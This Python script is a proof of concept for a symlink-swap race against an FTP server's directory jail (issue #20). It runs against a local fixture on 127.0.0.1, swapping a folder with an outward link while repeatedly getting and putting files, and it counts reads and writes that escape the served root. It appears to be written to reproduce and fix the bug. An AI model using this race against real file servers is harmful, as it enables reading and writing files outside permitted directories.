"""The symlink swap race against ftp_server.ts (issue #20): `python3 jail_race.py BASE PORT SECONDS`.

BASE holds root/ (served, with d/secret.txt and dlink -> ../outside) and outside/secret.txt.
One process swaps root/d and root/dlink with renameat2(RENAME_EXCHANGE) as fast as it can, so
d is a folder, then a link out, then a folder again, never missing. Meanwhile this process, in
the tutorial protocol, gets d/secret.txt and puts d/upN.txt over and over. It prints one line:
how many gets were answered and how many of them held the outside file, how many puts were
tried and how many files appeared in outside/.
"""
import ctypes
import hashlib
import multiprocessing
import os
import socket
import sys
import time

base, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
root = os.path.join(base, "root")
outside = os.path.join(base, "outside")
stop = time.time() + seconds
RENAME_EXCHANGE = 2
AT_FDCWD = -100


def swapper():
    libc = ctypes.CDLL("libc.so.6", use_errno=True)
    d = os.path.join(root, "d").encode()
    link = os.path.join(root, "dlink").encode()
    while time.time() < stop:
        libc.renameat2(AT_FDCWD, d, AT_FDCWD, link, RENAME_EXCHANGE)
        libc.renameat2(AT_FDCWD, d, AT_FDCWD, link, RENAME_EXCHANGE)


def line(f):
    return f.readline().decode().rstrip("\n")


def main():
    multiprocessing.Process(target=swapper, daemon=True).start()
    gets = leaked = puts = 0
    body = b"payload\n"
    while time.time() < stop:
        s = socket.create_connection(("127.0.0.1", port))
        f = s.makefile("rb")
        f.readline()  # the welcome line
        s.sendall(b"get d/secret.txt\n")
        size = line(f)
        if size.isdigit():
            s.sendall(b"ready to recv file 0\n")
            data = f.read(int(size))
            f.readline()  # the MD5 line
            gets += 1
            if b"outside" in data:
                leaked += 1
        s.sendall(f"put d/up{puts}.txt {len(body)}\n".encode())
        offset = line(f)
        if offset.isdigit():
            s.sendall(body[int(offset):] + hashlib.md5(body).hexdigest().encode() + b"\n")
            line(f)
        puts += 1
        s.sendall(b"quit\n")
        s.close()
    written = [name for name in os.listdir(outside) if name != "secret.txt"]
    print(f"{gets} gets answered, {leaked} with the outside file; "
          f"{puts} puts, {len(written)} files written outside")


if __name__ == "__main__":
    main()
